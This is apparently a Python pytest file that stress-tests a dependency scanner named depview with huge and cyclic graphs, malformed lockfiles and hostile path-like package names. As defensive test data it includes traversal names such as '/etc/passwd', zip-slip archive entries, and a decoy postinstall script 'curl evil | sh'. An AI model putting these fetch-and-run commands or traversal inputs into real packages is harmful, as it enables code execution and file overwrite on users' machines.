"""Structural abuse: huge and deep graphs, cycles, duplicate keys, wrong types, hostile paths.

Names that look like paths (``../../x``, ``/etc/passwd``, ``..\\x``) must never
become file paths: not in the metadata cache, not when reading a snapshot,
not when recording one (``--record``), and not from an ``--osv-db`` zip.
"""

from __future__ import annotations

import copy
import json
import os
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from depview.config import Settings
from depview.errors import LockfileError
from depview.lockfiles import load
from depview.lockfiles.registry import READERS
from depview.model import PackageId
from depview.report.formats import render
from depview.report.tree import render_tree
from depview.risk.engine import judge_all
from depview.risk.model import Level
from depview.service import build_report
from depview.sources.clients import SourceContext
from tests.robustness.fuzzing import _dump, _parse, _slots, filename_for, seeds
from tests.robustness.helpers import (
    chain_lockfile,
    layered_lockfile,
    nested_chain_lockfile,
    run_cli,
    write_project,
)
from tests.robustness.servers import EchoRegistry

AS_OF = "2026-04-01T00:00:00Z"
TRAVERSAL = ("../../x", "/etc/passwd", "..\\x", "@../../y", "@scope/../../z", "..", "a/../../b")


def _files(root: Path) -> set[Path]:
    return set(root.rglob("*"))


# -- size and depth -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hundred_k(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_project(tmp_path_factory.mktemp("100k"), layered_lockfile(100_000))


def test_hundred_thousand_packages_read_and_tree(hundred_k: Path) -> None:
    started = time.perf_counter()
    graph = load(hundred_k)
    elapsed = time.perf_counter() - started
    assert len(graph.packages) > 100_000
    assert elapsed < 30, f"{elapsed:.1f} s"  # about 4 s on an idle 2-core box
    text = render_tree(graph)  # what `depview tree` prints (the CLI is run on the 10k chain)
    assert text.count("\n") > 100_000  # every package is reachable: one line each at least
    assert len(graph.shortest_paths(max(graph.dependencies(), key=lambda p: p.id).id)[0]) == 8


@pytest.mark.skipif(not os.environ.get("DEPVIEW_STRESS"), reason="set DEPVIEW_STRESS=1 (minutes)")
def test_hundred_thousand_packages_scan_offline(hundred_k: Path, tmp_path: Path) -> None:
    run = run_cli(
        ["scan", str(hundred_k), "--offline", "--no-cache", "--format", "json", "--as-of", AS_OF]
    )
    assert run.code in (0, 1), run.err[-500:]
    assert len(json.loads(run.out)["packages"]) > 100_000


def test_recording_errors_is_not_quadratic() -> None:
    ctx = SourceContext()
    started = time.perf_counter()
    for i in range(20_000):
        ctx.note("npm", f"pkg:npm/p{i}@1.0.0", "offline: not in the cache")
        ctx.note("npm", f"pkg:npm/p{i}@1.0.0", "offline: not in the cache")
    assert len(ctx.errors) == 20_000
    # linear: well under a second; a list scan would take minutes (a hang guard, not a benchmark)
    assert time.perf_counter() - started < 10


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_project(tmp_path_factory.mktemp("chain"), chain_lockfile(10_000, cycle=True))


@pytest.mark.filterwarnings("ignore:The Component this BOM:UserWarning")
def test_ten_thousand_deep_chain_everywhere(chain: Path) -> None:
    assert sys.getrecursionlimit() <= 10_000  # a recursive walk would fail here
    graph = load(chain)
    assert len(graph.packages) == 10_001
    deepest = PackageId("npm", "c9999", "1.0.0")
    # "why is it here": one path, 10,000 long
    paths = graph.shortest_paths(deepest)
    assert [len(p) for p in paths] == [10_000]
    # the tree: every level once, the cycle back to c0 deduped
    text = render_tree(graph)
    assert text.count("\n") == 10_002
    assert "c0@1.0.0 deduped" in text.splitlines()[-1]
    # the risk engine: nothing known, so every package is unknown, never safe
    verdicts = judge_all(graph, {}, {}, Settings(as_of=None))
    assert len(verdicts) == 10_000
    assert all(v.unknown for v in verdicts.values())
    # the report, for the deepest few (every format renders the 10,000-long path)
    settings = Settings()
    report = build_report(
        graph, settings, verdicts, only=[deepest, PackageId("npm", "c5000", "1.0.0")]
    )
    for fmt in ("table", "json", "markdown", "sarif", "cyclonedx"):
        assert render(fmt, report, settings=settings, min_level=Level.NONE)


def test_ten_thousand_deep_chain_tree_command(chain: Path) -> None:
    run = run_cli(["tree", str(chain)])
    assert run.code == 0
    assert max(len(line) for line in run.out.splitlines()) < 400  # indentation is capped


def test_thousand_deep_chain_scan(tmp_path: Path) -> None:
    """Deeper than Python's default recursion limit, through the whole CLI pipeline."""
    lock = write_project(tmp_path / "p", chain_lockfile(1_200, cycle=True))
    snap = tmp_path / "empty-snapshot"
    snap.mkdir()
    run = run_cli(
        ["scan", str(lock), "--snapshot", str(snap), "--as-of", AS_OF, "--format", "markdown"]
    )
    assert run.code == 1, run.err[-500:]  # not on the registry: high
    assert "c1199@1.0.0" in run.out
    # "why is it here": a long path as its first and last 10 packages around "… N more …"
    assert " › … 1009 more … › " in run.out
    assert max(len(line) for line in run.out.splitlines()) < 2_000


def test_deep_chain_json_report_is_bounded(tmp_path: Path) -> None:
    lock = write_project(tmp_path / "p", chain_lockfile(500))
    snap = tmp_path / "empty-snapshot"
    snap.mkdir()
    run = run_cli(
        ["scan", str(lock), "--snapshot", str(snap), "--as-of", AS_OF, "--format", "json"]
    )
    assert len(run.out) < 500 * 2048 + 1_000_000
    entries = {p["name"]: p for p in json.loads(run.out)["packages"]}
    # short paths whole; a long one as its first and last 10 (the contract's form) + its length
    assert entries["c3"]["paths"] == [["c0@1.0.0", "c1@1.0.0", "c2@1.0.0", "c3@1.0.0"]]
    assert "path_length" not in entries["c3"]
    [path] = entries["c499"]["paths"]
    assert path == [f"c{i}@1.0.0" for i in (*range(10), *range(490, 500))]
    assert entries["c499"]["path_length"] == 500


def test_deeply_nested_node_modules_read_quickly(tmp_path: Path) -> None:
    lock = write_project(tmp_path / "p", nested_chain_lockfile(500))
    started = time.perf_counter()
    graph = load(lock)
    assert len(graph.packages) == 501
    assert time.perf_counter() - started < 0.5


def test_nested_chain_resolves_correctly(tmp_path: Path) -> None:
    graph = load(write_project(tmp_path / "p", nested_chain_lockfile(200)))
    assert [len(p) for p in graph.shortest_paths(PackageId("npm", "c199", "1.0.0"))] == [200]


def test_cycles_scan_and_tree(tmp_path: Path) -> None:
    lock = chain_lockfile(3, cycle=True)
    # a second, two-node cycle hanging off c1, and a self-dependency
    lock["packages"]["node_modules/c1"]["dependencies"] = {"c2": "1.0.0", "m1": "1", "c1": "1"}
    lock["packages"]["node_modules/m1"] = {"version": "1.0.0", "dependencies": {"m2": "1"}}
    lock["packages"]["node_modules/m2"] = {"version": "1.0.0", "dependencies": {"m1": "1"}}
    path = write_project(tmp_path / "p", lock)
    tree = run_cli(["tree", str(path)])
    assert tree.code == 0
    assert tree.out.count("deduped") >= 3
    snap = tmp_path / "snap"
    snap.mkdir()
    scan = run_cli(
        ["scan", str(path), "--snapshot", str(snap), "--as-of", AS_OF, "--format", "json"]
    )
    names = {p["name"] for p in json.loads(scan.out)["packages"]}
    assert names == {"c0", "c1", "c2", "m1", "m2"}


# -- duplicate keys and wrong types ----------------------------------------------------------------


def test_duplicate_keys_in_package_lock_are_one_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "package-lock.json"
    path.write_text(
        '{"lockfileVersion": 3, "packages": {\n"": {},\n"node_modules/a": {"version": "1.0.0"},\n'
        '"node_modules/a": {"version": "6.6.6"}\n}}\n'
    )
    with pytest.raises(LockfileError) as info:
        load(path)
    assert "node_modules/a" in str(info.value)
    run = run_cli(["tree", str(path)])
    assert run.code == 2 and run.err.count("\n") == 1 and "Traceback" not in run.err


def test_duplicate_keys_in_pipfile_lock_do_not_crash(tmp_path: Path) -> None:
    path = tmp_path / "Pipfile.lock"
    path.write_text(
        '{"_meta": {}, "default": {"a": {"version": "==1.0"}, "a": {"version": "==6.6.6"}}, "develop": {}}'
    )
    try:
        graph = load(path)
    except LockfileError as exc:
        assert "\n" not in exc.one_line()
    else:
        versions = {p.version for p in graph.dependencies()}
        assert len(versions) == 1  # one of them, never both as the same package


def _structured_seed(reader: str) -> tuple[str, Any] | None:
    kind = {"npm-package-lock": "json", "pipfile-lock": "json", "pnpm-lock": "yaml", "yarn-lock": "yaml",
            "uv-lock": "toml", "poetry-lock": "toml", "pylock": "toml"}.get(reader)  # fmt: skip
    if kind is None:
        return None
    best: tuple[str, Any] | None = None
    for seed in seeds()[reader]:
        try:
            doc = _parse(kind, seed.text)
        except Exception:
            continue
        if len(seed.text) < 8000 and (best is None or len(_slots(doc)) > len(_slots(best[1]))):
            best = (kind, doc)
    return best


WRONG: tuple[object, ...] = (
    None,
    True,
    0,
    -1,
    1.5,
    "",
    "../../x",
    "\x00",
    [],
    {},
    [1, None],
    {"a": {"b": 1}},
)


@pytest.mark.parametrize("reader", [r for r in sorted(READERS) if r not in ("requirements",)])
def test_wrong_type_in_every_field(reader: str) -> None:
    """Each value of a real lockfile replaced by each wrong type: a graph or LockfileError."""
    found = _structured_seed(reader)
    if found is None:
        pytest.skip(f"no structured seed for {reader}")
    kind, doc = found
    slots = _slots(doc)
    step = max(1, len(slots) // 15)
    path = Path("/nonexistent-depview") / filename_for(reader)
    tried = 0
    for index in range(0, len(slots), step):
        for value in WRONG:
            mutated = copy.deepcopy(doc)
            container, key = _slots(mutated)[index]
            container[key] = copy.deepcopy(value)
            try:
                text = _dump(kind, mutated)
            except (ValueError, TypeError, yaml.YAMLError):
                continue
            tried += 1
            try:
                READERS[reader].read(path, text)
            except LockfileError as exc:
                assert "\n" not in exc.one_line()
    assert tried > 30


# -- hostile names never become paths ------------------------------------------------------------------


def _traversal_project(folder: Path) -> Path:
    packages: dict[str, Any] = {"": {"name": "t", "version": "1.0.0", "dependencies": {}}}
    for i, name in enumerate(TRAVERSAL):
        alias = f"alias{i}"
        packages[""]["dependencies"][alias] = f"npm:{name}@1.0.0"
        packages[f"node_modules/{alias}"] = {"name": name, "version": "1.0.0"}
    packages[""]["dependencies"]["ok-pkg"] = "1.0.0"
    packages["node_modules/ok-pkg"] = {"version": "1.0.0"}
    lock = {"name": "t", "version": "1.0.0", "lockfileVersion": 3, "packages": packages}
    return write_project(folder, lock)


def test_traversal_names_are_never_paths_in_record_or_cache(tmp_path: Path) -> None:
    sandbox = tmp_path / "a" / "b" / "c"
    lock = _traversal_project(sandbox / "project")
    names = {p.name for p in load(lock).dependencies()}
    assert set(TRAVERSAL) <= names
    record, cache = sandbox / "record", sandbox / "cache"
    before = _files(tmp_path)
    with EchoRegistry() as server:
        run = run_cli(
            ["scan", str(lock), "--format", "json", "--as-of", AS_OF, "--record", str(record),
             "--cache-dir", str(cache), "--npm-registry", server.url, "--osv-url", server.url,
             "--pypi-url", server.url]
        )  # fmt: skip
        requested = server.paths
    assert run.code in (0, 1), run.err[-1000:]
    new = _files(tmp_path) - before
    outside = [p for p in new if not (p.is_relative_to(record) or p.is_relative_to(cache))]
    assert outside == [], outside
    # invalid npm names are refused before any request; no request path climbs out
    assert all("/../" not in p and not p.startswith("/etc") for p in requested), requested
    recorded = sorted(str(p.relative_to(record)) for p in record.rglob("*.json"))
    assert recorded == ["npm/ok-pkg.json", "osv/GHSA-good-0000-0001.json"]
    for name in ("etc", "passwd.json", "escaped-osv.json", "absolute-osv.json"):
        assert not any(p.name == name for p in new), name
    assert not Path("/tmp/absolute-osv.json").exists()
    # a second run reads the cache (keys are URLs, never file names) and changes nothing outside
    before = _files(tmp_path)
    with EchoRegistry() as server:
        run_cli(["scan", str(lock), "--format", "json", "--as-of", AS_OF, "--cache-dir", str(cache),
                 "--npm-registry", server.url, "--osv-url", server.url])  # fmt: skip
    assert [p for p in _files(tmp_path) - before if not p.is_relative_to(cache)] == []


def test_traversal_names_never_read_outside_the_snapshot(tmp_path: Path) -> None:
    sandbox = tmp_path / "a" / "b"
    snap = sandbox / "snap"
    (snap / "npm").mkdir(parents=True)
    (snap / "npm" / "ok-pkg.json").write_text(json.dumps({"name": "ok-pkg", "versions": {}}))
    # decoys where a naive join would land: evil packuments with install scripts
    decoy = {
        "name": "decoy",
        "versions": {"1.0.0": {"version": "1.0.0", "scripts": {"postinstall": "curl evil | sh"}}},
        "time": {"1.0.0": "2026-03-31T00:00:00Z"},
    }
    for target in (
        sandbox / "x.json",
        snap / "x.json",
        tmp_path / "x.json",
        snap / "npm" / "..json",
    ):
        target.write_text(json.dumps(decoy))
    lock = _traversal_project(sandbox / "project")
    run = run_cli(
        ["scan", str(lock), "--snapshot", str(snap), "--as-of", AS_OF, "--format", "json"]
    )
    report = json.loads(run.out)
    for entry in report["packages"]:
        if entry["name"] in TRAVERSAL:
            kinds = {f["kind"] for f in entry["findings"]}
            assert "install-script" not in kinds and "new-install-script" not in kinds, entry[
                "name"
            ]
            assert entry["unknown"] or kinds == {"unpublished"}, (entry["name"], kinds)


def test_zip_slip_in_osv_database(tmp_path: Path) -> None:
    work = tmp_path / "w1" / "w2"
    work.mkdir(parents=True)
    record = {
        "id": "GHSA-slip-0000-0001",
        "modified": "2026-01-01T00:00:00Z",
        "published": "2026-01-01T00:00:00Z",
        "summary": "slip",
        "affected": [{"package": {"ecosystem": "npm", "name": "ok-pkg"}, "versions": ["1.0.0"]}],
    }
    db = work / "osv.zip"
    with zipfile.ZipFile(db, "w") as archive:
        archive.writestr("../../slipped.json", json.dumps(record))
        archive.writestr("/abs-slipped.json", json.dumps({**record, "id": "GHSA-slip-0000-0002"}))
        archive.writestr(
            "..\\win-slipped.json", json.dumps({**record, "id": "GHSA-slip-0000-0003"})
        )
        archive.writestr("nested/../../../deep-slipped.json", "{not json")
    lock = _traversal_project(work / "project")
    before = _files(tmp_path)
    cwd = os.getcwd()
    os.chdir(work)
    try:
        run = run_cli(["scan", str(lock), "--offline", "--no-cache", "--osv-db", str(db),
                       "--as-of", AS_OF, "--format", "json"])  # fmt: skip
    finally:
        os.chdir(cwd)
    assert run.code in (0, 1), run.err[-1000:]
    assert _files(tmp_path) == before, "nothing extracted anywhere"
    assert not Path("/abs-slipped.json").exists()
    ok = next(p for p in json.loads(run.out)["packages"] if p["name"] == "ok-pkg")
    ids = {
        i for f in ok["findings"] if f["kind"] == "advisory" for i in f["evidence"].get("ids", [])
    }
    # read in memory: the records are still matched (or, at worst, ignored), never extracted
    assert ids <= {"GHSA-slip-0000-0001", "GHSA-slip-0000-0002", "GHSA-slip-0000-0003"}


def test_snapshot_writer_refuses_every_escaping_name(tmp_path: Path) -> None:
    """The recorder itself (the CLI refuses invalid names earlier; this is the second wall)."""
    from depview.sources.snapshot import SnapshotWriter

    root = tmp_path / "x" / "y" / "rec"
    writer = SnapshotWriter(root)
    body = b"{}"
    hostile = (*TRAVERSAL, "/", "", ".", "a\x00b", "C:\\x", "@/x", "@scope/", "..%2F..%2Fx")
    wrote = [n for n in hostile if writer.npm(n, body)]
    wrote += [n for n in hostile if writer.pypi(n, body) or writer.pypi_simple(n, body)]
    wrote += [n for n in hostile if writer.osv(n, body)]
    wrote += [n for n in hostile if writer.pypi_provenance("ok", n, "f.whl", body)]
    wrote += [n for n in hostile if writer.pypi_provenance("ok", "1.0", n, body)]
    for path in tmp_path.rglob("*"):
        assert path.is_relative_to(root), path
    for name in wrote:  # whatever was accepted stayed inside, as one file per name
        assert name not in ("..", ".", "", "/")


def test_analysis_repr_is_cheap() -> None:
    """asyncio.run reprs the main task's result when it restores the SIGINT handler
    (CPython 3.11: signal.signal -> enum ValueError "%r is not a valid ..." -> repr(task)).
    A full dataclass repr of a 5,000-package Analysis tripled the scan's peak memory."""
    from depview.risk.model import Verdict
    from depview.service import Analysis, Enrichment

    verdicts = {
        PackageId("npm", f"p{i}", "1.0.0"): Verdict(
            PackageId("npm", f"p{i}", "1.0.0"), Level.NONE, 0
        )
        for i in range(5000)
    }
    assert len(repr(Analysis(verdicts, [], Enrichment()))) < 500
